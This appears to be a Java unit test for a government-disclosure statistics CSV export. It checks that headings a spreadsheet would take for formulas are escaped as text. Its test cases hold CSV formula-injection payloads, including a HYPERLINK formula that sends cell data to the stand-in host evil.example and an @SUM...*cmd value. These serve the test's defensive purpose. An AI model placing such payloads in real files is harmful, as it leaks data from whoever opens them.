package cn.gov.disclosure.statistics;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.List;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class SpreadsheetExportsTest {

    /** The heading begins with the agency's name, which an administrator types in. */
    @ParameterizedTest(name = "{0} is written {1}")
    @CsvSource(delimiter = '|', quoteCharacter = '`', value = {
            "=HYPERLINK(\"http://evil.example/?d=\"&A5,\"点此查看\")年度报告 | `\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A5,\"\"点此查看\"\")年度报告\"`",
            "+1+1 | '+1+1",
            "-1+1 | '-1+1",
            "@SUM(1+1)*cmd | '@SUM(1+1)*cmd",
            "`\t=1` | `'\t=1`",
            "`\r=1` | `\"'\r=1\"`",
            "自然资源局2025年政府信息公开工作年度报告 | 自然资源局2025年政府信息公开工作年度报告",
            "本机关-2025 | 本机关-2025" })
    void aCellASpreadsheetWouldTakeForAFormulaIsWrittenAsText(String heading, String written) {
        String csv = new String(SpreadsheetExports.csv(heading, List.of()), StandardCharsets.UTF_8);

        assertThat(csv).isEqualTo("\uFEFF" + written + "\r\n");
    }
}
